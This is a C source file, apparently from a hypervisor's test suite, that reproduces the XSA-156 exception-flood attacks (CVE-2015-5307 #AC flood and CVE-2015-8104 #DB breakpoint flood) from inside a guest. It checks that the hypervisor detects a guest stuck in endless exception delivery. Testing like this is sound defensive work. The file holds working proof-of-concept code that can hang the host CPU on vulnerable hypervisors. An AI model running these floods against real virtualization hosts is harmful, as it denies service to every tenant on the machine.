/*
 * The exception floods of XSA-156: an exception whose delivery raises the
 * same exception again, forever.  #AC and #DB are benign exceptions, so a
 * second one during (or right after) the delivery of the first is simply
 * delivered next (SDM Vol. 3A 6.15, interrupt 8, table 6-5: benign, then
 * benign, "handle exceptions serially"), never a double fault: the CPU
 * loops inside event delivery and never reaches an instruction.  Without
 * an intercept of the vector no VM exit comes either, and the host CPU is
 * lost (CVE-2015-5307, CVE-2015-8104).  skiff intercepts both vectors and
 * reflects each one, so every round is a VM exit; it must notice that the
 * guest makes no progress.  The instruction sequences are in flood.S.
 */
#include "attack.h"
#include "printf.h"
#include "runtime.h"
#include "x86.h"

#define VEC_DB			1
#define VEC_AC			17
#define CR0_AM			(1u << 18)
#define EFLAGS_FIXED1		(1u << 1)	/* reads as 1 */
#define EFLAGS_AC		(1u << 18)
#define RING3_STACK_SIZE	4096
#define STACK_MISALIGN		2		/* ESP = 2 mod 4 */
#define STACK16_SIZE		0x10000		/* all a 16-bit SP reaches */

/* DR7 (SDM Vol. 3B 18.2.4, figure 18-1). */
#define DR7_L0			(1u << 0)
#define DR7_L1			(1u << 2)
#define DR7_LE			(1u << 8)
#define DR7_GE			(1u << 9)
#define DR7_RW_READ_WRITE	3u		/* break on data reads or writes */
#define DR7_LEN_4		3u		/* 4 bytes, 4-aligned */
#define DR7_RW0_SHIFT		16
#define DR7_LEN0_SHIFT		18
#define DR7_RW1_SHIFT		20
#define DR7_LEN1_SHIFT		22

/* flood.S */
extern const char ring3_misaligned_push[], ring3_ac_handler[], db_flood_escape[];
__attribute__((noreturn)) void db_flood_start(uint32_t gate);
uint32_t db_flood_saved_esp;	/* the flat stack, for db_flood_escape */

static uint8_t ring3_stack[RING3_STACK_SIZE] __attribute__((aligned(16)));
static uint8_t stack16[STACK16_SIZE] __attribute__((aligned(16)));

/*
 * CVE-2015-5307, as XSA-156 describes it: the #AC gate leads to a ring-3
 * handler, and ring-3 code faults with a misaligned stack pointer.
 *
 * Alignment checking is on at CPL 3 with CR0.AM and EFLAGS.AC set, and it
 * covers stack references too (SDM Vol. 3A 6.15, interrupt 17).  The
 * ring-3 code's first PUSH is a misaligned stack write: #AC.  Its gate
 * names a DPL-3 code segment, so delivery stays at CPL 3 on the same,
 * misaligned stack (6.12.1: no stack switch without a privilege change),
 * and delivery does not clear EFLAGS.AC (6.12.1.3 clears only TF, VM, RF,
 * NT and, for an interrupt gate, IF).  Pushing EFLAGS is a misaligned
 * stack write at CPL 3: #AC during the delivery of #AC.  A fault during
 * delivery leaves ESP as it was, so the next delivery fails the same way:
 * #AC recurs inside its own delivery, forever.  The handler is never
 * reached.  (Bochs 2.7 without skiff shows it: it nests #AC deliveries
 * until its own stack overflows.)
 */
void attack_ac_flood(void)
{
	ring3_setup(0);
	ring3_set_gate(VEC_AC, SEL_CODE3, (uint32_t)ring3_ac_handler,
		       GATE_PRESENT | GATE_DPL3 | GATE_INTERRUPT32);
	printf("attack: ac-flood: CR0.AM on; to ring 3 with EFLAGS.AC, ESP = 0x%08x\n",
	       (uint32_t)ring3_stack + RING3_STACK_SIZE - STACK_MISALIGN);
	write_cr0(read_cr0() | CR0_AM);
	ring3_enter((uint32_t)ring3_misaligned_push,
		    (uint32_t)ring3_stack + RING3_STACK_SIZE - STACK_MISALIGN,
		    EFLAGS_AC | EFLAGS_FIXED1);
}

/*
 * CVE-2015-8104, as XSA-156 describes it: "a hardware breakpoint covering
 * a data structure involved in delivering #DB".  The structure here is the
 * #DB gate of the IDT, which every delivery of #DB reads.
 *
 * DR0 and DR1 watch the two dwords of that gate for reads or writes (SDM
 * Vol. 3B 18.2.4).  A data breakpoint is a trap: the #DB comes once the
 * access's instruction, or the event delivery that made the access, is
 * complete (18.3.1.2; 6.9, class 4 "traps on the previous instruction" come
 * before the next instruction, here the handler's first).  The guest reads
 * the gate once: #DB.  Delivering it reads the gate: when the delivery is
 * done, another #DB is due before the handler's first instruction, and its
 * delivery reads the gate again, forever.
 *
 * Each delivery (CPL 0, no privilege change) pushes 12 bytes; on a flat
 * stack the loop would walk down through all of memory until some other
 * fault stopped it.  So the stack is a 16-bit segment (SS.B = 0): pushes
 * use SP, which wraps within the segment's 64 KiB, and the loop never
 * ends.  SP starts at 0 and moves by 12, so each dword push stays aligned
 * and inside the limit.  (Bochs 2.7 without skiff then reports a data
 * breakpoint at every tick, for as long as it is left to run.)
 */
void attack_db_flood(void)
{
	uint32_t gate;

	ring3_setup((uint32_t)stack16);
	ring3_set_gate(VEC_DB, SEL_CODE0, (uint32_t)db_flood_escape,
		       GATE_PRESENT | GATE_INTERRUPT32);
	gate = ring3_gate_address(VEC_DB);
	printf("attack: db-flood: DR0/DR1 on the #DB gate at 0x%08x, stack 16-bit at 0x%08x\n",
	       gate, (uint32_t)stack16);
	asm volatile("movl %0, %%dr0\n\t"
		     "movl %1, %%dr1\n\t"
		     "movl %2, %%dr7"
		     : : "r"(gate), "r"(gate + 4),
		       "r"(DR7_L0 | DR7_L1 | DR7_LE | DR7_GE |
			   DR7_RW_READ_WRITE << DR7_RW0_SHIFT | DR7_LEN_4 << DR7_LEN0_SHIFT |
			   DR7_RW_READ_WRITE << DR7_RW1_SHIFT | DR7_LEN_4 << DR7_LEN1_SHIFT)
		     : "memory");
	db_flood_start(gate);
}

/* flood.S calls this when a #DB delivery completed without raising
 * another: the flood ended, which it should not on any x86 CPU. */
__attribute__((noreturn)) void db_flood_escaped(uint32_t eip);

void db_flood_escaped(uint32_t eip)
{
	printf("attack: db-flood: a #DB handler ran (interrupted eip 0x%08x): the flood stopped\n",
	       eip);
	guest_exit(GUEST_EXIT_FATAL);
}
